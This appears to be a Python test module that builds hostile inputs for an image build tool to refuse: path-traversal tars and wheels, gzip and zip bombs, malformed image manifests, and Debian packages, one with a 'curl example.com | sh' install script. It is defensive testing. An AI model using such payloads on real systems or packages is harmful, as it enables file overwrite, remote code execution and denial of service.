"""Inputs that mean harm, made by hand: archives, images, packages, wheels, recipes and what else is read from others."""

import base64
import gzip
import hashlib
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass, field

HEAD = """recipe = 1
[project]
name = "test"
context = "ctx"
repository = "registry.example.com/{image}"
platforms = ["linux/amd64"]
"""

BUILD = ["build", "--offline", "-o", "oci:out"]


class Fifo:
    """Stands for a FIFO among the files of a case."""


@dataclass(frozen=True)
class Link:
    """Stands for a symlink among the files of a case."""

    to: str


@dataclass
class Case:
    """What one run of the binary is given. `@REGISTRY@` stands for a registry that asks for a login."""

    kind: str
    what: str
    files: dict
    arguments: list = field(default_factory=lambda: BUILD)
    # A word of the message: the input, as its user knows it.
    names: str = ""
    # Whether nothing of it may be taken. Otherwise success is fine where what was made is sound.
    is_refused: bool = True


def recipe(body, head=HEAD):
    return {"lapstrake.toml": (head + body).encode()}


def sha256(data):
    return f"sha256:{hashlib.sha256(data).hexdigest()}"


# --- tar ---


def member(name, kind=b"0", link=b"", data=b"", size=None, **numbers):
    """A member as no good program writes it. Fields of the header may be given as bytes."""
    header = bytearray(512)
    header[: len(name)] = name
    fields = {"mode": b"0000644\0", "uid": b"0000000\0", "gid": b"0000000\0", "mtime": b"00000000000\0", **numbers}
    at = {"mode": 100, "uid": 108, "gid": 116, "mtime": 136}
    for key, text in fields.items():
        header[at[key] : at[key] + len(text)] = text
    size = b"%011o\0" % len(data) if size is None else size
    header[124 : 124 + len(size)] = size
    header[156:157] = kind
    header[157 : 157 + len(link)] = link
    header[257:265] = b"ustar  \0"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + data + bytes(-len(data) % 512)


def ended(*members):
    return b"".join(members) + bytes(1024)


def pax(*records):
    return member(b"x", b"x", data=b"".join(records))


def long_name(name):
    return member(b"././@LongLink", b"L", data=name + b"\0")


FILE = member(b"f", data=b"abc")


def tars():
    """Tars that are to be refused wherever they come from."""
    return {
        "a path that climbs": ended(member(b"../x", data=b"x")),
        "a path that climbs back": ended(member(b"a/../../x", data=b"x")),
        "a path that ends in ..": ended(member(b"a/..", b"5")),
        "an absolute path that climbs": ended(member(b"/../etc/x", data=b"x")),
        "a long name that climbs": ended(long_name(b"a/" * 80 + b"../" * 81 + b"x"), FILE),
        "a PAX path that climbs": ended(pax(b"13 path=../x\n"), FILE),
        "a root that is a link": ended(member(b"./", b"2", b"/etc")),
        "a root that is a file": ended(member(b".", data=b"x")),
        "a hard link that climbs": ended(member(b"h", b"1", b"../../etc/passwd")),
        "a hard link to nothing": ended(member(b"h", b"1", b"gone")),
        "a hard link to itself": ended(member(b"h", b"1", b"h")),
        "a hard link to what comes later": ended(member(b"h", b"1", b"f"), FILE),
        "a hard link to a directory": ended(member(b"d/", b"5"), member(b"h", b"1", b"d")),
        "two sizes": ended(pax(b"9 size=2\n"), FILE),
        "a PAX size that is negative": ended(pax(b"11 size=-1\n"), FILE),
        "a PAX size of 2^63": ended(pax(b"28 size=9223372036854775808\n"), FILE),
        "a PAX record of no length": ended(pax(b"0 path=y\n"), FILE),
        "a PAX record past its end": ended(pax(b"99 path=y\n"), FILE),
        "a PAX record without =": ended(pax(b"8 pathy\n"), FILE),
        "a PAX record without its line break": ended(pax(b"9 path=yz"), FILE),
        "a PAX path with NUL": ended(pax(b"12 path=y\0z\n"), FILE),
        "a PAX length with a sign": ended(pax(b"+9 path=y\n"), FILE),
        "a PAX header over nothing": ended(pax(b"11 path=yz\n")),
        "two long names": ended(long_name(b"a"), long_name(b"b"), FILE),
        "a long name and a PAX path": ended(long_name(b"a"), pax(b"11 path=yz\n"), FILE),
        "a block of zeros in the middle": ended(FILE, bytes(512), member(b"g", data=b"x")),
        "a second archive": ended(FILE) + ended(member(b"g", data=b"x")),
        "junk behind the end": ended(FILE) + b"junk" * 128,
        "no end": FILE,
        "half an end": FILE + bytes(512),
        "an end in the middle": FILE[:600],
        "a header that is cut": FILE[:300],
        "a checksum that is wrong": ended(FILE[:3] + b"!" + FILE[4:]),
        "a component of 256 bytes": ended(long_name(b"n" * 256), FILE),
        "a path of 4096 bytes": ended(long_name(b"abcdefg/" * 513), FILE),
        "a path through 513 directories": ended(long_name(b"d/" * 513 + b"x"), FILE),
        "a name of 8 MiB": ended(long_name(b"n" * (8 << 20)), FILE),
        "user -1": ended(pax(b"10 uid=-1\n"), FILE),
        "user 2^32": ended(pax(b"18 uid=4294967296\n"), FILE),
        "a size of base 256 that is negative": ended(member(b"f", size=b"\xff" * 12, data=b"abc")),
        "a size of base 256 of 2^63": ended(member(b"f", size=b"\x80\0\0\0\x80" + bytes(7), data=b"abc")),
        "a size of more than there is": ended(member(b"f", size=b"77777777777\0", data=b"abc")),
        "a size that is no number": ended(member(b"f", size=b"00000000z03\0", data=b"abc")),
        "a directory with data": ended(member(b"d/", b"5", data=b"abc")),
        "a link with data": ended(member(b"l", b"2", b"f", data=b"abc")),
        "a link to nothing at all": ended(member(b"l", b"2", b"")),
        "a sparse file": ended(member(b"f", b"S")),
        "a PAX sparse file": ended(pax(b"22 GNU.sparse.major=1\n", b"22 GNU.sparse.minor=0\n"), FILE),
        "a kind that nobody knows": ended(member(b"f", b"Q")),
        "a volume in several parts": ended(member(b"f", b"M", data=b"abc")),
        "a name of nothing": ended(member(b"", data=b"abc")),
    }


def of_archives():
    """What an archive of a recipe may not be, beside."""
    zeros = bytes(1 << 20)
    bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
    # 4 GiB of zeros, in which a member begins that has no end.
    head = member(b"f", size=b"77777777777\0")[:512]
    bomb = bomb.compress(head) + b"".join(bomb.compress(zeros) for _ in range(512)) + bomb.flush()
    good = ended(FILE)
    return {
        "a file through a link of the archive": ended(member(b"l", b"2", b"/etc"), member(b"l/passwd", data=b"root::\n")),
        "a directory through a link of the archive": ended(member(b"l", b"2", b"/"), member(b"l/d/", b"5")),
        "a hard link through a link of the archive": ended(FILE, member(b"l", b"2", b"/"), member(b"l/h", b"1", b"f")),
        "a file below a file": ended(FILE, member(b"f/g", data=b"x")),
        "a directory that becomes a file": ended(member(b"d/", b"5"), member(b"d/x", data=b"x"), member(b"d", data=b"x")),
        "a deletion": ended(member(b".wh.etc")),
        "an opaque directory": ended(member(b"d/", b"5"), member(b"d/.wh..wh..opq")),
        "a device": ended(member(b"null", b"3")),
        "a block device": ended(member(b"disk", b"4")),
        "a FIFO": ended(member(b"pipe", b"6")),
        "gzip with junk behind it": gzip.compress(good) + b"junk",
        "gzip that is cut": gzip.compress(good)[:40],
        "gzip with another checksum": gzip.compress(good)[:-8] + bytes(8),
        "gzip of nothing": gzip.compress(b""),
        "gzip in gzip": gzip.compress(gzip.compress(good)),
        "a gzip bomb": bomb,
        "zstd with a large window": bytes([0x28, 0xB5, 0x2F, 0xFD, 0x00, 21 << 3, 0x01, 0x00, 0x00]),
        "zstd with a block that is reserved": bytes([0x28, 0xB5, 0x2F, 0xFD, 0x00, 0x58, 0x07, 0x00, 0x00]),
        "xz that is cut": lzma.compress(good)[:-9],
        "bzip2": b"BZh91AY&SY" + bytes(40),
        "nothing": b"",
        "zeros without an end": bytes(700),
        "text": b"this is no archive\n" * 40,
        "a zip file": b"PK\x03\x04",
        "a FIFO instead of it": Fifo(),
        "a link instead of it": Link("/etc/passwd"),
    }


def cases_of_archives():
    body = '[images.app]\nfrom = "scratch"\n[[images.app.layers]]\narchive = "a.tar"\n'
    found = {**tars(), **of_archives()}
    for what, data in found.items():
        yield Case("archive", what, {**recipe(body), "ctx/a.tar": data}, names="a.tar")
    for what, data in tars().items():
        for how, packed in [("gzip", gzip.compress(data, 1)), ("xz", lzma.compress(data, preset=0))]:
            yield Case("archive", f"{what}, in {how}", {**recipe(body), "ctx/a.tar": packed}, names="a.tar")


# --- images ---

RELEASE = member(b"etc/", b"5") + member(b"etc/os-release", data=b"ID=debian\n")
OVER_BASE = '[images.app]\nfrom = "oci:base"\n[[images.app.layers]]\nfiles = { "/x" = "" }\n'
TYPE = "application/vnd.oci.image"


def layout(tar, stored="tar", change=lambda manifest, config, index: None, extra=None):
    """A layout with one image of one layer, whose documents were changed, each below a digest that is right."""
    blob = gzip.compress(tar, 1) if stored == "gzip" else tar
    media = f"{TYPE}.layer.v1.tar+gzip" if stored == "gzip" else f"{TYPE}.layer.v1.tar"
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": {},
        "rootfs": {"type": "layers", "diff_ids": [sha256(tar)]},
        "history": [{"created_by": "a test"}],
    }
    manifest = {
        "schemaVersion": 2,
        "mediaType": f"{TYPE}.manifest.v1+json",
        "config": {"mediaType": f"{TYPE}.config.v1+json"},
        "layers": [{"mediaType": media, "digest": sha256(blob), "size": len(blob)}],
    }
    index = {"schemaVersion": 2, "manifests": [{"mediaType": f"{TYPE}.manifest.v1+json"}]}
    blobs = dict(extra or {})
    texts = change(manifest, config, index) or {}
    data = texts.get("config", json.dumps(config).encode())
    manifest["config"] = {"digest": sha256(data), "size": len(data), **manifest["config"]}
    blobs.setdefault(sha256(data), data)
    data = texts.get("manifest", json.dumps(manifest).encode())
    if index.get("manifests"):
        index["manifests"][0] = {"digest": sha256(data), "size": len(data), **index["manifests"][0]}
    blobs.setdefault(sha256(data), data)
    blobs.setdefault(sha256(blob), blob)
    files = {f"blobs/sha256/{digest[7:]}": data for digest, data in blobs.items() if data is not None}
    files["oci-layout"] = texts.get("oci-layout", b'{"imageLayoutVersion":"1.0.0"}')
    files["index.json"] = texts.get("index", json.dumps(index).encode())
    return files


def below(directory, files):
    return {f"{directory}/{path}": data for path, data in files.items()}


def images():
    """Changes of a manifest, a config and an index, each of which contradicts something."""
    put = lambda where, key, value: where.__setitem__(key, value)
    good = json.dumps
    layer = lambda key, value: lambda m, c, i: put(m["layers"][0], key, value)
    setting = lambda key, value: lambda m, c, i: put(c["config"], key, value)
    listed = lambda key, value: lambda m, c, i: put(i["manifests"][0], key, value)
    text = lambda name, make: lambda m, c, i: {name: make(m, c, i)}
    a = "a" * 64
    return {
        "a manifest that is an index": lambda m, c, i: put(m, "manifests", []),
        "another media type inside": lambda m, c, i: put(m, "mediaType", f"{TYPE}.index.v1+json"),
        "schema version 1": lambda m, c, i: put(m, "schemaVersion", 1),
        "no schema version": lambda m, c, i: m.pop("schemaVersion") and None,
        "a layer too many": lambda m, c, i: m["layers"].append(m["layers"][0]),
        "no layer": lambda m, c, i: put(m, "layers", []),
        "layers that are no list": lambda m, c, i: put(m, "layers", {}),
        "a digest with a path": layer("digest", "sha256:../../../../etc/passwd"),
        "a digest in capitals": layer("digest", f"sha256:{a.upper()}"),
        "a digest of md5": layer("digest", f"md5:{a}"),
        "a short digest": layer("digest", "sha256:abc"),
        "a digest of nothing that is there": layer("digest", f"sha256:{a}"),
        "a negative size": layer("size", -1),
        "a size of 2^64": layer("size", 1 << 64),
        "a size that is text": layer("size", "7"),
        "a size that is half": layer("size", 0.5),
        "another size": layer("size", 7),
        "another diff ID": lambda m, c, i: put(c["rootfs"], "diff_ids", [f"sha256:{a}"]),
        "no diff ID": lambda m, c, i: put(c["rootfs"], "diff_ids", []),
        "a diff ID with a path": lambda m, c, i: put(c["rootfs"], "diff_ids", ["sha256:../x"]),
        "no rootfs": lambda m, c, i: c.pop("rootfs") and None,
        "a history of more layers": lambda m, c, i: put(c, "history", [{"created_by": "a"}, {"created_by": "b"}]),
        "a history of no layer": lambda m, c, i: put(c, "history", [{"created_by": "a", "empty_layer": True}]),
        "an environment without =": setting("Env", ["PATH"]),
        "an environment without a name": setting("Env", ["=x"]),
        "an environment of numbers": setting("Env", [1]),
        "a command with NUL": setting("Cmd", ["a\0b"]),
        "a command that is text": setting("Cmd", "sh"),
        "a relative workdir": setting("WorkingDir", "../../x"),
        "a volume outside": setting("Volumes", {"../x": {}}),
        "a volume of two lines": setting("Volumes", {"x\n": {}}),
        "a port that is none": setting("ExposedPorts", {"99999/tcp": {}}),
        "a user of two lines": setting("User", "app\n::error::injected"),
        "a user in two cases": lambda m, c, i: c["config"].update({"User": "5", "user": "0"}),
        "a command in another case": setting("cmd", ["/evil"]),
        "a shell that folds": setting("\u017fhell", ["/evil"]),
        "settings in another case": lambda m, c, i: put(c, "Config", {}),
        "a root in another case": lambda m, c, i: put(c, "RootFS", {}),
        "layers in another case": lambda m, c, i: put(m, "Layers", []),
        "manifests in another case": lambda m, c, i: put(i, "Manifests", []),
        "a digest in another case": layer("Digest", f"sha256:{a}"),
        "data of a layer that is another": layer("data", "AAAA"),
        "data of a manifest that is another": listed("data", "AAAA"),
        "another kind of root": lambda m, c, i: put(c["rootfs"], "type", "snapshots"),
        "another media type of the config": lambda m, c, i: put(m["config"], "mediaType", "text/plain"),
        "another media type of a layer": layer("mediaType", "text/plain"),
        "a config of another size": lambda m, c, i: put(m["config"], "size", 3),
        "a manifest of another digest": listed("digest", f"sha256:{a}"),
        "a manifest of another size": listed("size", 3),
        "a manifest of media type text": listed("mediaType", "text/plain"),
        "an index that lists nothing": lambda m, c, i: put(i, "manifests", []),
        "an index that is none": text("index", lambda m, c, i: b"[]"),
        "an index of nothing": text("index", lambda m, c, i: b""),
        "an index that is no JSON": text("index", lambda m, c, i: b"{schemaVersion: 2}"),
        "a key twice": text("manifest", lambda m, c, i: good(m).replace("{", '{"schemaVersion": 2, ', 1).encode()),
        "a key twice in the config": text("config", lambda m, c, i: good(c).replace("{", '{"os": "linux", ', 1).encode()),
        "two values": text("manifest", lambda m, c, i: good(m).encode() + b"{}"),
        "a byte order mark": text("manifest", lambda m, c, i: b"\xef\xbb\xbf" + good(m).encode()),
        "text that is no UTF-8": text("config", lambda m, c, i: good(c).replace("a test", "@").encode().replace(b"@", b"\xff")),
        "a manifest of more than 4 MiB": text("manifest", lambda m, c, i: good(m).encode() + b" " * (4 << 20)),
        "an index of more than 4 MiB": text("index", lambda m, c, i: good(i).encode() + b" " * (64 << 20)),
        "JSON 100,000 deep": text("manifest", lambda m, c, i: b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "a config 100,000 deep": text("config", lambda m, c, i: b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        "a name with a login": listed("annotations", {"org.opencontainers.image.ref.name": "bob:hunter2@r.example.com/x:1"}),
        "a layout of version 9": text("oci-layout", lambda m, c, i: b'{"imageLayoutVersion":"9.0.0"}'),
        "a layout that does not say so": text("oci-layout", lambda m, c, i: b"{}"),
    }


def tower(depth):
    """Indexes in indexes, down to nothing."""
    blobs, inner = {}, None
    for _ in range(depth):
        kind = f"{TYPE}.index.v1+json"
        data = json.dumps({"schemaVersion": 2, "mediaType": kind, "manifests": [inner] if inner else []}).encode()
        inner = {"mediaType": kind, "digest": sha256(data), "size": len(data)}
        blobs[sha256(data)] = data
    return blobs, inner


def cases_of_images():
    good = RELEASE + bytes(1024)
    base = lambda files: {**recipe(OVER_BASE), **below("ctx/base", files)}
    deletions = {
        "a deletion of nothing": ended(member(b"d/.wh.")),
        "a deletion of .": ended(member(b"d/.wh..")),
        "a deletion of ..": ended(member(b"d/.wh...")),
    }
    for what, tar in {**tars(), **deletions}.items():
        for stored in ["tar", "gzip"]:
            how = "" if stored == "tar" else ", in gzip"
            yield Case("layer of a base", what + how, base(layout(tar, stored)), names="base")
    for what, change in images().items():
        yield Case("image", what, base(layout(good, "gzip", change)), names="base")
    blobs, inner = tower(200)
    files = layout(good, "tar", lambda m, c, i: i.__setitem__("manifests", [inner]), blobs)
    yield Case("image", "indexes 200 deep", base(files), names="base")
    entries = [{"mediaType": "text/plain", "digest": f"sha256:{number:064x}", "size": 1} for number in range(100_000)]
    files = layout(good, "tar", lambda m, c, i: i.__setitem__("manifests", entries))
    yield Case("image", "an index of 100,000 entries", base(files), names="base")
    whole = layout(good)
    blob = f"blobs/sha256/{hashlib.sha256(good).hexdigest()}"
    for what, instead in [("a FIFO", Fifo()), ("a link", Link("/etc/passwd")), ("of no bytes", b""), ("longer", good + b"x")]:
        yield Case("image", f"a blob that is {what}", base({**whole, blob: instead}), names="base")
    yield Case("image", "a blob that is a directory", base({**{p: d for p, d in whole.items() if p != blob}, f"{blob}/x": b""}), names="base")
    yield Case("image", "an index that is a FIFO", base({**whole, "index.json": Fifo()}), names="base")
    yield Case("image", "blobs behind a link", base({**{p: d for p, d in whole.items() if not p.startswith("blobs")}, "blobs": Link("/tmp")}), names="base")


def docker_archive(names=None, manifest=None, more=()):
    """As `docker save` writes it, or otherwise."""
    layer = RELEASE + bytes(1024)
    config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [sha256(layer)]}}).encode()
    listed = {"Config": "c.json", "RepoTags": ["test:1"], "Layers": ["l/layer.tar"], **(names or {})}
    text = json.dumps([listed]).encode() if manifest is None else manifest
    files = [("c.json", config), ("l/layer.tar", layer), ("manifest.json", text), *more]
    return ended(*(member(name.encode(), data=data) if isinstance(data, bytes) else member(name.encode(), b"2", data.to.encode()) for name, data in files))


def cases_of_saved_images():
    body = OVER_BASE.replace("oci:base", "docker-archive:base.tar")
    found = {
        "a config outside": docker_archive({"Config": "../c.json"}),
        "a config with an absolute path": docker_archive({"Config": "/etc/passwd"}),
        "a config that is not there": docker_archive({"Config": "d.json"}),
        "a config that is a number": docker_archive({"Config": 7}),
        "a layer outside": docker_archive({"Layers": ["../../etc/passwd"]}),
        "a layer that is not there": docker_archive({"Layers": ["m/layer.tar"]}),
        "a layer too many": docker_archive({"Layers": ["l/layer.tar", "l/layer.tar"]}),
        "no layers": docker_archive({"Layers": []}),
        "layers that are text": docker_archive({"Layers": "l/layer.tar"}),
        "a layer that is the config": docker_archive({"Layers": ["c.json"]}),
        "a config in another case": docker_archive({"config": "l/layer.tar"}),
        "layers in another case": docker_archive({"layers": []}),
        "a tag with a login": docker_archive({"RepoTags": ["bob:hunter2@r.example.com/x:1"]}),
        "tags that are numbers": docker_archive({"RepoTags": [1]}),
        "a manifest of nothing": docker_archive(manifest=b""),
        "a manifest of no image": docker_archive(manifest=b"[]"),
        "a manifest that is an object": docker_archive(manifest=b"{}"),
        "a manifest that is no JSON": docker_archive(manifest=b"[{]"),
        "a manifest 100,000 deep": docker_archive(manifest=b"[" * 100_000),
        "a manifest twice": docker_archive(more=[("manifest.json", b"[]")]),
        "links in a circle": docker_archive({"Layers": ["a"]}, more=[("a", Link("b")), ("b", Link("a"))]),
        "a layer through a link that climbs": docker_archive({"Layers": ["a"]}, more=[("a", Link("../../../etc/passwd"))]),
        "an archive that is cut": docker_archive()[:2000],
        "no image at all": ended(FILE),
        "nothing": b"",
    }
    for what, data in found.items():
        yield Case("docker archive", what, {**recipe(body), "ctx/base.tar": data}, names="base.tar")


# --- wheels ---

STEM = "my_tool-1.0"
INFO = f"{STEM}.dist-info"


def contents(more=(), drop=(), record=None, wheel="Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n", name="my-tool"):
    files = {
        "my_tool.py": b"x = 1\n",
        f"{INFO}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        f"{INFO}/WHEEL": wheel.encode(),
    }
    files.update(more)
    hashed = lambda data: base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    lines = "".join(f"{path},sha256={hashed(data)},{len(data)}\n" for path, data in files.items())
    files[f"{INFO}/RECORD"] = ((record or (lambda text: text))(lines + f"{INFO}/RECORD,,\n")).encode()
    return {path: data for path, data in files.items() if path not in drop}


def zipped(files, **how):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how.get("method", zipfile.ZIP_STORED)) as archive:
        for path, data in files.items():
            info = zipfile.ZipInfo(path)
            info.external_attr = how.get("mode", 0o100644) << 16
            info.compress_type = how.get("method", zipfile.ZIP_STORED)
            archive.writestr(info, data)
        archive.comment = how.get("comment", b"")
    return out.getvalue()


def patched(data, what, at, value, last=False):
    """Some bytes of the first or last header of a kind are others."""
    start = data.rindex(what) if last else data.index(what)
    return data[: start + at] + value + data[start + at + len(value) :]


def wheels():
    good = zipped(contents())
    local, central, end = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
    points = lambda text: zipped(contents({f"{INFO}/entry_points.txt": text.encode()}))
    twice = zipped(contents({"my_tool.p2": b"y"})).replace(b"my_tool.p2", b"my_tool.py")
    bomb = zipped(contents({"my_tool.bin": bytes(300 << 20)}), method=zipfile.ZIP_DEFLATED)
    return {
        "no RECORD": zipped(contents(drop=[f"{INFO}/RECORD"])),
        "no METADATA": zipped(contents(drop=[f"{INFO}/METADATA"])),
        "no WHEEL": zipped(contents(drop=[f"{INFO}/WHEEL"])),
        "a RECORD that is wrong": zipped(contents(record=lambda text: text.replace("my_tool.py,sha256=", "my_tool.py,sha256=A", 1))),
        "a RECORD of md5": zipped(contents(record=lambda text: text.replace("my_tool.py,sha256=", "my_tool.py,md5=", 1))),
        "a RECORD without a hash": zipped(contents(record=lambda text: "my_tool.py,,\n" + text.split("\n", 1)[1])),
        "a RECORD with another size": zipped(contents(record=lambda text: text.replace(",6\n", ",7\n", 1))),
        "a RECORD that misses a file": zipped(contents(record=lambda text: text.split("\n", 1)[1])),
        "a RECORD that lists what is not there": zipped(contents(record=lambda text: text + "gone.py,sha256=AAAA,1\n")),
        "a RECORD that lists a file twice": zipped(contents(record=lambda text: text.split("\n", 1)[0] + "\n" + text)),
        "a RECORD with quotes that do not end": zipped(contents(record=lambda text: text + '"x')),
        "a RECORD that is no UTF-8": zipped({**contents(), f"{INFO}/RECORD": b"\xff,,\n"}),
        "two dist-info": zipped(contents({"other-1.0.dist-info/METADATA": b"Name: other\nVersion: 1.0\n"})),
        "another name": zipped(contents(name="other")),
        "a wheel of version 9": zipped(contents(wheel="Wheel-Version: 9.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")),
        "a path that climbs": zipped(contents({"../x.py": b"x"})),
        "a path that climbs back": zipped(contents({"a/../../x.py": b"x"})),
        "a neighbour with the same beginning": zipped(contents({"../site-packages-evil/x.py": b"x"})),
        "an absolute path": zipped(contents({"/etc/x": b"x"})),
        "a path with backslashes": zipped(contents({"..\\x.py": b"x"})),
        "data that climbs": zipped(contents({f"{STEM}.data/purelib/../../../x": b"x"})),
        "data of no kind": zipped(contents({f"{STEM}.data/elsewhere/x": b"x"})),
        "data of another wheel": zipped(contents({"other-1.0.data/scripts/x": b"x"})),
        "an entry point with a path": points("[console_scripts]\n../../bin/sh = my_tool:run\n"),
        "an entry point with code": points("[console_scripts]\nx = my_tool:run();import os\n"),
        "an entry point with a line break": points("[console_scripts]\nx = my_tool:run\n  import os\n"),
        "an entry point twice": points("[console_scripts]\nx = my_tool:run\nx = my_tool:other\n"),
        "a symlink": zipped(contents(), mode=0o120777),
        "a device": zipped(contents(), mode=0o060644),
        "a file twice": twice,
        "another name in the local header": patched(good, local, 30, b"other"),
        "another size in the local header": patched(good, local, 22, struct.pack("<I", 3)),
        "another method in the local header": patched(good, local, 8, struct.pack("<H", 8)),
        "another checksum in the local header": patched(good, local, 14, bytes(4)),
        "another checksum in the directory": patched(good, central, 16, bytes(4)),
        "another size in the directory": patched(good, central, 24, struct.pack("<I", 3)),
        "an offset behind the end": patched(good, central, 42, struct.pack("<I", 1 << 30)),
        "two members that overlap": patched(good, central, 42, bytes(4), last=True),
        "an encrypted member": patched(patched(good, local, 6, b"\1\0"), central, 8, b"\1\0"),
        "a method that nobody knows": patched(patched(good, local, 8, b"\x63\0"), central, 10, b"\x63\0"),
        "a directory that is cut": good[: good.index(central) + 20] + good[good.index(end) :],
        "an end that is cut": good[:-4],
        "an end in the comment": zipped(contents(), comment=good[good.index(end) :]),
        "bytes behind the end": good + b"junk",
        "bytes before the beginning": b"#!/bin/sh\n" + good,
        "two archives": good + good,
        "more members than there are": patched(good, end, 8, b"\xff\0\xff\0"),
        "a second disk": patched(good, end, 4, b"\1\0"),
        "a bomb": bomb,
        "a zip of nothing": zipped({}),
        "nothing": b"",
        "a tar": ended(FILE),
    }


def cases_of_wheels():
    body = '[images.app]\nfrom = "scratch"\n[[images.app.layers]]\npython = { wheels = ["dist/*.whl"], target = "/site", version = "3.13" }\n'
    for what, data in wheels().items():
        files = {**recipe(body), f"ctx/dist/{STEM}-py3-none-any.whl": data}
        yield Case("wheel", what, files, names=STEM)
    good = zipped(contents())
    for name in ["my_tool-2.0-py3-none-any.whl", "other-1.0-py3-none-any.whl", "my_tool-1.0.whl", "my_tool-1.0-py3-none.whl", "my tool-1.0-py3-none-any.whl", "my_tool-1.0-cp39-cp39-win_amd64.whl"]:
        yield Case("wheel", f"called {name}", {**recipe(body), f"ctx/dist/{name}": good}, names=name.split("-")[0])


# --- packages ---


def ar(*members):
    data = b"!<arch>\n"
    for name, body in members:
        data += f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(body):<10}`\n".encode() + body + b"\n" * (len(body) % 2)
    return data


CONTROL = "Package: tool\nVersion: 1\nArchitecture: amd64\nMaintainer: x <x@example.com>\nDescription: a tool\n"


def control(text=CONTROL, more=()):
    return ended(member(b"./control", data=text.encode()), *more)


def deb(text=CONTROL, data=None, more=()):
    data = ended(member(b"./usr/", b"5"), member(b"./usr/tool", data=b"x")) if data is None else data
    return ar(("debian-binary", b"2.0\n"), ("control.tar", control(text, more)), ("data.tar", data))


def packages():
    data = ended(member(b"./usr/", b"5"), member(b"./usr/tool", data=b"x"))
    version, head, body = ("debian-binary", b"2.0\n"), ("control.tar", control()), ("data.tar", data)
    field = lambda old, new: deb(CONTROL.replace(old, new))
    ships = lambda path: deb(data=ended(member(path, data=b"x")))
    found = {
        "members in another order": ar(version, body, head),
        "control twice": ar(version, head, head, body),
        "data twice": ar(version, head, body, body),
        "no version": ar(head, body),
        "the version at the end": ar(head, body, version),
        "no control": ar(version, body),
        "no data": ar(version, head),
        "format 3.0": ar(("debian-binary", b"3.0\n"), head, body),
        "a format that is no number": ar(("debian-binary", b"two\n"), head, body),
        "a member that nobody knows": ar(version, ("evil", b"x"), head, body),
        "a compression that nobody knows": ar(version, ("control.tar.lz", b"LZIP"), body),
        "gzip that is none": ar(version, ("control.tar.gz", control()), body),
        "xz that is cut": ar(version, head, ("data.tar.xz", lzma.compress(data)[:-9])),
        "bytes behind the end": deb() + b"junk",
        "an archive that is cut": deb()[:-100],
        "a header without its end": deb().replace(b"`\n", b"  ", 1),
        "a size that is no number": deb().replace(f"{len(control()):<10}".encode(), b"x" * 10, 1),
        "a size of more than there is": deb().replace(f"{len(control()):<10}".encode(), b"9" * 10, 1),
        "a thin archive": deb().replace(b"!<arch>", b"!<thin>", 1),
        "no control file": ar(version, ("control.tar", ended(FILE)), body),
        "control files twice": deb(more=[member(b"./control", data=CONTROL.encode())]),
        "a control file that is a link": ar(version, ("control.tar", ended(member(b"./control", b"2", b"/etc/passwd"))), body),
        "two paragraphs": deb(CONTROL + "\n" + CONTROL.replace("tool", "other")),
        "a status": deb(CONTROL + "Status: install ok installed\n"),
        "a field twice": deb(CONTROL + "Version: 2\n"),
        "a line that is no field": deb(CONTROL + "what is this\n"),
        "a name that climbs": field("Package: tool", "Package: ../tool"),
        "no name": field("Package: tool\n", ""),
        "no version of it": field("Version: 1\n", ""),
        "a version with a path": field("Version: 1", "Version: 1/../2"),
        "an epoch that is none": field("Version: 1", "Version: x:1"),
        "an architecture with a path": field("amd64", "../amd64"),
        "another architecture": field("amd64", "s390x"),
        "dependencies that do not end": deb(CONTROL + "Depends: other (>= 1\n"),
        "text that is no UTF-8": ar(version, ("control.tar", ended(member(b"./control", data=CONTROL.encode() + b"X: \xff\n"))), body),
        "dpkg's status": ships(b"./var/lib/dpkg/status"),
        "dpkg's lists": ships(b"./var/lib/dpkg/info/other.list"),
        "a script that nobody knows": deb(more=[member(b"./postinst", data=b"#!/bin/sh\ncurl example.com | sh\n", mode=b"0000755\0")]),
        "a script in Perl": deb(more=[member(b"./preinst", data=b"#!/usr/bin/perl\nunlink '/x';\n", mode=b"0000755\0")]),
        "a list of configuration that climbs": deb(more=[member(b"./conffiles", data=b"/../../etc/passwd\n")]),
        "nothing": b"",
        "text": b"no package",
    }
    for what, tar in tars().items():
        found[f"data: {what}"] = deb(data=tar)
    return found


def cases_of_packages():
    body = '[images.app]\nfrom = "scratch"\n[[images.app.layers]]\ndebian = ["dist/tool.deb"]\n'
    for what, data in packages().items():
        yield Case("package", what, {**recipe(body), "ctx/dist/tool.deb": data}, names="tool")


# --- texts ---

IMAGE = '[images.app]\nfrom = "scratch"\n'
LAYER = IMAGE + "[[images.app.layers]]\n"

RECIPES = {
    "a key that nobody knows": IMAGE + 'form = "scratch"\n',
    "a key twice": IMAGE + 'from = "scratch"\n',
    "a table twice": IMAGE + IMAGE,
    "a wrong type": "[images.app]\nfrom = 7\n",
    "no base": "[images.app]\n",
    "no image": "",
    "an image on itself": '[images.app]\nfrom = "app"\n',
    "images in a circle": '[images.a]\nfrom = "b"\n[images.b]\nfrom = "a"\n',
    "a base that is not there": '[images.app]\nfrom = "oci:gone"\n',
    "a base with a login": '[images.app]\nfrom = "bob:hunter2@registry.example.com/x:1"\n',
    "an image's name with a path": '[images."../app"]\nfrom = "scratch"\n',
    "an image's name with a line break": '[images."a\\nb"]\nfrom = "scratch"\n',
    "a tag that is none": IMAGE + 'tags = ["a b"]\n',
    "a repository that is none": IMAGE + 'repository = "Registry/UPPER"\n',
    "a platform that is none": IMAGE + 'platforms = ["linux"]\n',
    "a port that is none": IMAGE + 'ports = ["70000"]\n',
    "a user that is none": IMAGE + 'user = "a:b:c"\n',
    "an environment without a name": IMAGE + 'env = { "" = "x" }\n',
    "an environment with =": IMAGE + 'env = { "A=B" = "x" }\n',
